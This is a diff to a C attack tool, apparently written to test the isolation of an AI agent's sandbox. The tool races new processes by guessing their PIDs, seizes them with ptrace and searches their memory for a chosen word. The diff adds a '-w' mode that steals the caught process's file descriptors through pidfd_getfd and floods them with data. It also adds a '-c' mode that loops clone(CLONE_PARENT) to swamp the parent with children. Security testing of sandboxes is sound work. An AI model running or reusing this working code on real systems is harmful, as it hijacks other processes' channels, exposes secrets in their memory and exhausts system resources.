@@ -6,7 +6,9 @@
  * process ran its own program: "caught PID rights..." and, when the process
  * has anything that the attacker lacks, "MORE what". A word given as argument
  * is looked for in the memory of what was caught ("FOUND word"). With "-s" it
- * has no such capability and stops the next process by a signal instead.
+ * has no such capability and stops the next process by a signal instead; with
+ * "-w" it writes to what the caught process reports on, without end; with "-c"
+ * it makes the agent a parent of as many children as it can.
  *
  * The next number is guessed rather than awaited in /proc, which is faster
  * than any directory can be read.
@@ -14,6 +16,7 @@
 #include <ctype.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdbool.h>
 #include <stdint.h>
@@ -21,11 +24,13 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/syscall.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
 #define AHEAD 3
 #define CHUNK (64 << 10)
+#define FDS 64
 
 struct rights {
 	unsigned long long inh, prm, eff, bnd, amb;
@@ -111,6 +116,19 @@ static void compare_namespaces(int pid)
 	}
 }
 
+/* A descriptor sent over it would be one of the agent's, to close. */
+static void find_sockets(int pid)
+{
+	for (int fd = 0; fd < FDS; fd++) {
+		char path[64], target[64] = "";
+
+		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
+		if (readlink(path, target, sizeof(target) - 1) > 0 &&
+		    strncmp(target, "socket:", 7) == 0)
+			printf("MORE descriptors %s\n", target);
+	}
+}
+
 static void search_range(int fd, unsigned long from, unsigned long to,
 			 const char *word, const char *line)
 {
@@ -165,6 +183,8 @@ static void look(int pid, const struct rights *own, const char *word)
 
 		compare(own, &r);
 		compare_namespaces(pid);
+		if (early)
+			find_sockets(pid);
 		if (early && word)
 			search(pid, word);
 		printf("%s %d %s\n", early ? "caught" : "late", pid, r.exe);
@@ -201,16 +221,85 @@ static int stop_next(int last)
 		}
 }
 
+static void write_to(int pidfd, int from)
+{
+	static char data[4096];
+	int fd = (int)syscall(SYS_pidfd_getfd, pidfd, from, 0);
+
+	if (fd < 0)
+		return;
+	memset(data, 3, sizeof(data));
+	fcntl(fd, F_SETFL, O_NONBLOCK);
+	/* Its standard output is among them, and nobody reads that. */
+	for (int waited = 0; waited < 100;)
+		if (write(fd, data, sizeof(data)) > 0)
+			waited = 0;
+		else if (errno != EAGAIN)
+			break;
+		else if (++waited)
+			usleep(1000);
+	printf("wrote to %d: %s\n", from, strerror(errno));
+	fflush(stdout);
+	close(fd);
+}
+
+/* Held, so that it cannot end the channel by its exec. */
+static void write_next(int last)
+{
+	int status;
+
+	signal(SIGPIPE, SIG_IGN);
+	for (;;)
+		for (int pid = last + 1; pid <= last + AHEAD; pid++) {
+			int pidfd;
+
+			if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
+				continue;
+			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+			waitpid(pid, &status, __WALL);
+			pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
+			printf("caught %d\n", pid);
+			fflush(stdout);
+			for (int fd = 3; fd < FDS; fd++)
+				write_to(pidfd, fd);
+			close(pidfd);
+			/* A tracer hears of the end before the parent does. */
+			if (ptrace(PTRACE_DETACH, pid, 0, 0) < 0)
+				waitpid(pid, &status, __WALL);
+			last = pid;
+		}
+}
+
+static void clone_siblings(void)
+{
+	for (;;)
+		if (syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0) == 0)
+			_exit(0);
+}
+
+static int other_mode(char mode, int last)
+{
+	printf("up\n");
+	fflush(stdout);
+	switch (mode) {
+	case 's':
+		return stop_next(last);
+	case 'w':
+		write_next(last);
+		return 0;
+	default:
+		clone_siblings();
+		return 0;
+	}
+}
+
 int main(int argc, char **argv)
 {
 	struct rights own = { 0 };
 	int last = newest();
 
-	if (argc > 1 && strcmp(argv[1], "-s") == 0) {
-		printf("up\n");
-		fflush(stdout);
-		return stop_next(last);
-	}
+	if (argc > 1 && argv[1][0] == '-')
+		return other_mode(argv[1][1], last);
 	if (!take_rights(getpid(), &own))
 		return 2;
 	printf("up %llx %u %u\n", own.prm, own.seccomp, own.filters);
